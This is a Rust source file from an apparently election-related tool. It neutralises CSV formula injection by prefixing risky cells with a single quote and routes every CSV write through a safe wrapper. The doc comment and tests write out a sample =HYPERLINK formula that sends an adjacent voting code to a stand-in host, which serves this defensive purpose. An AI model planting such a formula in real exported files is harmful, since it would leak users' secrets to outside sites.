//! CSV files that people open in a spreadsheet, written so that no cell is
//! taken for a formula (CSV injection).
//!
//! A member named `=HYPERLINK("http://x/?"&D2,"Click")` in `tokens.csv` makes
//! a spreadsheet send the voting code beside it to another site when clicked;
//! `+`, `-` and `@` start formulas too, and a leading tab or carriage return
//! can hide one. OWASP's rule ("CSV Injection") is applied to every cell
//! Teller writes: a cell that starts with `=`, `+`, `-`, `@`, tab or carriage
//! return — or with spaces and then one of those — gets a single quote (`'`)
//! in front, which spreadsheets read as "this is text". The cost: such a
//! value (a member id `-2`, say) reads `'-2` in the file, and a program
//! reading the file must drop that quote. Every CSV writer goes through
//! [`CsvWriter`] (clippy's `disallowed-methods` forbids the others).

use std::borrow::Cow;
use std::io::Write;

/// Whether a spreadsheet could take `cell` for a formula.
fn starts_a_formula(cell: &str) -> bool {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some(' ') => matches!(cell.trim_start_matches(' ').chars().next(), Some('=' | '+' | '-' | '@')),
        _ => false,
    }
}

/// The cell as it is safe to write: with a leading `'` when it would start
/// a formula, unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if starts_a_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer whose every cell is [`neutralise`]d (and quoted as CSV needs).
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// Write CSV to `out`.
    pub fn new(out: W) -> Self {
        // The one place a raw csv writer is made; every cell it gets is neutralised below.
        #[allow(clippy::disallowed_methods)]
        let inner = csv::Writer::from_writer(out);
        CsvWriter { inner }
    }

    /// Write one row.
    pub fn write_row<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let row: Vec<String> = cells.into_iter().map(|c| neutralise(c.as_ref()).into_owned()).collect();
        self.inner.write_record(&row)
    }

    /// Flush what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&D2,\"x\")",
                "'=HYPERLINK(\"http://x/?\"&D2,\"x\")",
            ),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("  =1+1", "'  =1+1"),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_unchanged() {
        for cell in [
            "",
            "Ada Lovelace",
            "M00042",
            "a=b",
            "1-2",
            "ada@example.org",
            "'quoted",
            " Ada",
            "Zoë",
        ] {
            assert_eq!(neutralise(cell), cell);
        }
    }

    #[test]
    fn the_writer_neutralises_and_quotes() {
        let mut out = Vec::new();
        {
            let mut w = CsvWriter::new(&mut out);
            w.write_row(["member_id", "name"]).unwrap();
            w.write_row(["-2", "=1+1,\"x\""]).unwrap();
            w.flush().unwrap();
        }
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "member_id,name\n'-2,\"'=1+1,\"\"x\"\"\"\n"
        );
    }
}
